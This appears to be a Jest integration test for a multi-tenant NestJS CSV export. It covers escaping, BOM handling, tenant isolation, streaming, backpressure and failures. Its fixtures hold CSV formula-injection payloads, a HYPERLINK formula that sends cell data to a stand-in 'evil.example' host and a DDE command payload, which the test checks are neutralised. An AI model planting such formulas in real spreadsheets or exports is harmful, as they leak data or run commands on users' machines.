import { request as httpRequest, IncomingMessage } from 'node:http';
import { getConnectionToken } from '@nestjs/mongoose';
import { parse } from 'csv-parse/sync';
import type { Connection } from 'mongoose';
import { aTenant, TenantFixture } from '../factories/tenants';
import {
  CSV_PROBE_COLLECTION,
  csvProbe,
  CsvProbeModule,
  LARGE_ROWS,
  probeFixture,
  ProbeRow,
  SourceRecording,
} from '../support/csv-probe.module';
import { startTestApp, TestApp } from '../utils/test-app';

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
const HEADER = ['Seq', 'Name', 'Amount', 'Note'];
const DB_ROWS = 20_000;
const OTHER_ROWS = 25;
const NOTE = 'n'.repeat(1_000);

interface RawReply {
  readonly status: number;
  readonly headers: IncomingMessage['headers'];
  readonly body: Buffer;
  /** The body arrived whole (a terminating chunk), not cut off by the server. */
  readonly complete: boolean;
}

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

function parseCsv(body: Buffer | string): string[][] {
  return parse(body, { bom: true, relax_quotes: false, skip_empty_lines: false }) as string[][];
}

describe('CSV export: the kernel helper through the real app', () => {
  let t: TestApp;
  let acme: TenantFixture;
  let other: TenantFixture;
  let token: string;
  let otherToken: string;

  beforeAll(async () => {
    t = await startTestApp({ label: 'csv-export', extraImports: [CsvProbeModule] });
    [acme, other] = await Promise.all([aTenant(t, { name: 'Acme' }), aTenant(t, { name: 'Other' })]);
    [token, otherToken] = await Promise.all([acme.adminToken(), other.adminToken()]);
    // Test data goes straight into the collection; the export reads it through the scoped model.
    const rows = t.app.get<Connection>(getConnectionToken()).collection(CSV_PROBE_COLLECTION);
    for (let start = 0; start < DB_ROWS; start += 4_000) {
      const batch = Array.from({ length: Math.min(4_000, DB_ROWS - start) }, (_, i) => ({
        tenantId: acme.tenant.id,
        seq: start + i,
        name: `Acme row ${start + i}`,
        amount: -(start + i),
        note: NOTE,
      }));
      await rows.insertMany(batch);
    }
    await rows.insertMany(
      Array.from({ length: OTHER_ROWS }, (_, i) => ({ tenantId: other.tenant.id, seq: i, name: `=Other row ${i}`, note: 'other' })),
    );
  }, 120_000);
  afterAll(() => t.close());

  const url = (path: string): string => `${t.baseUrl}/v1/csv-probe/${path}`;
  const auth = (bearer = token): Record<string, string> => ({ authorization: `Bearer ${bearer}` });
  const recording = (tag: string): SourceRecording => {
    const found = csvProbe.recordings.get(tag);
    if (!found) throw new Error(`no export recorded as ${tag}`);
    return found;
  };

  /** A plain HTTP request that keeps whatever body arrived, even when the server cuts it off. */
  function raw(path: string, method = 'GET', bearer = token): Promise<RawReply> {
    return new Promise((resolve, reject) => {
      const req = httpRequest(url(path), { method, headers: auth(bearer) }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('error', () => undefined);
        res.on('close', () =>
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks), complete: res.complete }),
        );
      });
      req.on('error', reject);
      req.end();
    });
  }

  describe('the file', () => {
    it('round-trips quotes, commas, line breaks and unicode, and neutralises formula-like text', async () => {
      const rows: ProbeRow[] = [
        { seq: 1, name: '=1+1', amount: -5, note: '+cmd' },
        { seq: 2, name: '-2+3', amount: 0, note: '@SUM(A1:A2)' },
        { seq: 3, name: '\tTAB', amount: 12.5, note: '\rCR' },
        { seq: 4, name: '\nLF', amount: null, note: '\u0000NUL' },
        { seq: 5, name: 'say "hi", then leave', amount: -1e21, note: 'line one\nline two\r\nline three' },
        { seq: 6, name: '😀 emoji 🇫🇷 👩‍👩‍👧', note: '中文 日本語 한국어' },
        { seq: 7, name: 'e\u0301 (e + combining acute), A\u030A', note: 'a,b;c|d' },
        { seq: 8, name: "'already quoted", note: ' =leading space' },
        { seq: 9, name: 'a=b+c-d@e', note: '' },
        { seq: 10, name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', note: "DDE =cmd|' /C calc'!A0" },
        { seq: -3, name: 'numeric columns keep negative numbers', amount: '-2+3' as unknown as number, note: null },
        { seq: 11, name: 'not a finite number', amount: Number.NaN, note: '"' },
      ];
      probeFixture.rows = rows;
      const before = new Date().toISOString().slice(0, 10);
      const res = await fetch(url('fixture'), { headers: auth() });
      const body = Buffer.from(await res.arrayBuffer());
      const after = new Date().toISOString().slice(0, 10);

      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect([`attachment; filename="probe-${before}.csv"`, `attachment; filename="probe-${after}.csv"`]).toContain(
        res.headers.get('content-disposition'),
      );
      expect(res.headers.get('x-request-id')).toBeTruthy();
      expect(parseCsv(body)).toEqual([
        HEADER,
        ['1', "'=1+1", '-5', "'+cmd"],
        ['2', "'-2+3", '0', "'@SUM(A1:A2)"],
        ['3', "'\tTAB", '12.5', "'\rCR"],
        ['4', "'\nLF", '', "'\u0000NUL"],
        ['5', 'say "hi", then leave', '-1e+21', 'line one\nline two\r\nline three'],
        ['6', '😀 emoji 🇫🇷 👩‍👩‍👧', '', '中文 日本語 한국어'],
        ['7', 'e\u0301 (e + combining acute), A\u030A', '', 'a,b;c|d'],
        ['8', "'already quoted", '', ' =leading space'],
        ['9', 'a=b+c-d@e', '', ''],
        ['10', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")', '', "DDE =cmd|' /C calc'!A0"],
        ['-3', 'numeric columns keep negative numbers', "'-2+3", ''],
        ['11', 'not a finite number', '', '"'],
      ]);
      // Numbers are bare, quotes are doubled, records end with CRLF; the text is never normalised.
      const text = body.toString('utf8');
      expect(text.startsWith('Seq,Name,Amount,Note\r\n1,\'=1+1,-5,\'+cmd\r\n')).toBe(true);
      expect(text).toContain('\r\n-3,numeric columns keep negative numbers,\'-2+3,\r\n');
      expect(text).toContain('"say ""hi"", then leave"');
      expect(text).toContain('e\u0301 (e + combining acute)');
      expect(text.endsWith('\r\n')).toBe(true);
      expect(body.subarray(0, 3).equals(BOM)).toBe(false);
    });

    it('starts with a UTF-8 byte order mark only when asked (bom=true)', async () => {
      probeFixture.rows = [{ seq: 1, name: 'Zoë 😀', amount: 3, note: '=x' }];
      const [withBom, withoutBom, explicitFalse] = await Promise.all(
        ['fixture?bom=true', 'fixture', 'fixture?bom=false'].map(async (path) =>
          Buffer.from(await (await fetch(url(path), { headers: auth() })).arrayBuffer()),
        ),
      );
      expect(withBom.subarray(0, 3).equals(BOM)).toBe(true);
      expect(withBom.subarray(3).equals(withoutBom)).toBe(true);
      expect(explicitFalse.equals(withoutBom)).toBe(true);
      expect(parseCsv(withBom)).toEqual([HEADER, ['1', 'Zoë 😀', '3', "'=x"]]);
      expect(parseCsv(withoutBom)).toEqual(parseCsv(withBom));
    });

    it('is a header row only when there are no rows', async () => {
      probeFixture.rows = [];
      const res = await fetch(url('fixture'), { headers: auth() });
      expect(res.status).toBe(200);
      expect(await res.text()).toBe('Seq,Name,Amount,Note\r\n');
    });

    it('refuses a bom that is not true or false, and unknown query parameters, before streaming', async () => {
      const bad = await fetch(url('fixture?bom=yes'), { headers: auth() });
      expect(bad.status).toBe(400);
      expect(bad.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(((await bad.json()) as { errors: { field: string }[] }).errors.map((e) => e.field)).toEqual(['/bom']);
      const unknown = await fetch(url('fixture?tenantId=x'), { headers: auth() });
      expect(unknown.status).toBe(400);
    });
  });

  it('documents the download in OpenAPI: text/csv and a boolean bom parameter', async () => {
    const document = (await (await fetch(`${t.baseUrl}/openapi.json`)).json()) as {
      paths: Record<string, { get: { parameters: { name: string; in: string; schema: unknown }[]; responses: Record<string, { content: Record<string, unknown> }> } }>;
    };
    const operation = document.paths['/v1/csv-probe/fixture'].get;
    expect(Object.keys(operation.responses['200'].content)).toEqual(['text/csv']);
    expect(operation.parameters).toEqual([expect.objectContaining({ name: 'bom', in: 'query', schema: expect.objectContaining({ type: 'boolean' }) })]);
  });

  describe('streaming from the database', () => {
    it("streams only the caller's tenant's rows, pulling every row in the request's tenant context", async () => {
      const res = await fetch(url('db'), { headers: auth() });
      const records = parseCsv(Buffer.from(await res.arrayBuffer()));

      expect(res.status).toBe(200);
      expect(records[0]).toEqual(HEADER);
      expect(records).toHaveLength(DB_ROWS + 1);
      expect(new Set(records.slice(1).map((r) => Number(r[0]))).size).toBe(DB_ROWS);
      expect(records.every((r) => !r[1].startsWith("'=Other"))).toBe(true);
      expect(records[1]).toEqual(['0', 'Acme row 0', '0', NOTE]);
      expect(records.slice(1).filter((r) => r[2].startsWith('-'))).toHaveLength(DB_ROWS - 1);

      const source = recording(`db:${acme.tenant.id}`);
      // Later pulls resume from socket events; the context must still be the caller's tenant.
      expect([...source.tenantsSeen]).toEqual([acme.tenant.id]);
      expect(source.pulls).toBe(DB_ROWS + 1);
      expect(source.cursor?._closed).toBe(true);
      expect(source.cursor?.cursor?.closed).toBe(true);

      const others = parseCsv(Buffer.from(await (await fetch(url('db'), { headers: auth(otherToken) })).arrayBuffer()));
      expect(others).toHaveLength(OTHER_ROWS + 1);
      expect(others[1]).toEqual(['0', "'=Other row 0", '', 'other']);
    });

    it('stops pulling and closes the database cursor when the client disconnects mid-export', async () => {
      csvProbe.recordings.delete(`db:${acme.tenant.id}`);
      const firstChunk = await new Promise<Buffer>((resolve, reject) => {
        const req = httpRequest(url('db'), { headers: auth() }, (res) => {
          res.once('data', (chunk: Buffer) => {
            req.destroy();
            resolve(chunk);
          });
        });
        req.on('error', (error: NodeJS.ErrnoException) => {
          if (error.code !== 'ECONNRESET') reject(error);
        });
        req.end();
      });
      expect(firstChunk.toString('utf8').startsWith('Seq,Name,Amount,Note\r\n')).toBe(true);

      const source = recording(`db:${acme.tenant.id}`);
      await source.whenReturned();
      const pullsAtReturn = source.pulls;
      await sleep(300);
      expect(source.pulls).toBe(pullsAtReturn);
      expect(source.pulls).toBeLessThan(DB_ROWS / 2);
      // mongoose closed its cursor, and the driver sent killCursors for the unread rest.
      expect(source.cursor?._closed).toBe(true);
      expect(source.cursor?.cursor?.killed).toBe(true);
    });

    it('HEAD answers the headers without reading the export, and closes the cursor', async () => {
      csvProbe.recordings.delete(`db:${acme.tenant.id}`);
      const reply = await raw('db', 'HEAD');
      expect(reply.status).toBe(200);
      expect(reply.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(reply.body).toHaveLength(0);
      const source = recording(`db:${acme.tenant.id}`);
      await source.whenReturned();
      expect(source.pulls).toBe(1);
      expect(source.cursor?._closed).toBe(true);
      expect(source.cursor?.cursor?.killed).toBe(true);
    });
  });

  describe('backpressure and failures', () => {
    it('pulls only as fast as the client reads', async () => {
      let release: () => void = () => undefined;
      const statusPromise = new Promise<number>((resolve, reject) => {
        const req = httpRequest(url('large'), { headers: auth() }, (res) => {
          res.pause();
          release = () => req.destroy();
          resolve(res.statusCode ?? 0);
        });
        req.on('error', (error: NodeJS.ErrnoException) => {
          if (error.code !== 'ECONNRESET') reject(error);
        });
        req.end();
      });
      expect(await statusPromise).toBe(200);
      const source = recording('large');
      // Wait until pulling stops (the buffers are full), however busy the machine is.
      for (let last = -1, until = Date.now() + 10_000; Date.now() < until && source.pulls !== last; ) {
        last = source.pulls;
        await sleep(300);
      }
      const stalledAt = source.pulls;
      await sleep(500);
      // Without backpressure all LARGE_ROWS rows (150 MB) would have been pulled by now; with it,
      // only the socket and stream buffers fill (a few MB) and then pulling stops.
      expect(source.pulls).toBe(stalledAt);
      expect(stalledAt).toBeLessThan(LARGE_ROWS / 4);
      release();
      await source.whenReturned();
    });

    it('closes the source when the client left while the first row was still being read', async () => {
      await new Promise<void>((resolve, reject) => {
        const req = httpRequest(url('slow-start'), { headers: auth() }, () => reject(new Error('no answer was expected')));
        req.on('error', () => resolve());
        req.end();
        setTimeout(() => req.destroy(), 200);
      });
      const source = recording('slow-start');
      await source.whenReturned();
      await sleep(200);
      expect(source.pulls).toBe(1);
    });

    it('answers problem+json when the source fails before the first row', async () => {
      const res = await fetch(url('fail-first'), { headers: auth() });
      const body = (await res.json()) as { code: string; requestId: string };
      expect(res.status).toBe(500);
      expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(body.code).toBe('internal_error');
      expect(JSON.stringify(body)).not.toContain('hunter2');
    });

    it('cuts the response off (no problem JSON appended) when the source fails mid-export, and logs why', async () => {
      const reply = await raw('fail-later');
      const text = reply.body.toString('utf8');
      expect(reply.status).toBe(200);
      expect(reply.complete).toBe(false);
      expect(text.startsWith('Seq,Name,Amount,Note\r\n0,row 0,,\r\n')).toBe(true);
      expect(text).not.toContain('problem');
      expect(text).not.toContain('{');
      expect(text).not.toContain('hunter2');
      const requestId = reply.headers['x-request-id'];
      const logged = t.logs.find((line) => line.msg === 'unhandled error' && line.requestId === requestId);
      expect(logged).toBeDefined();
    });
  });
});
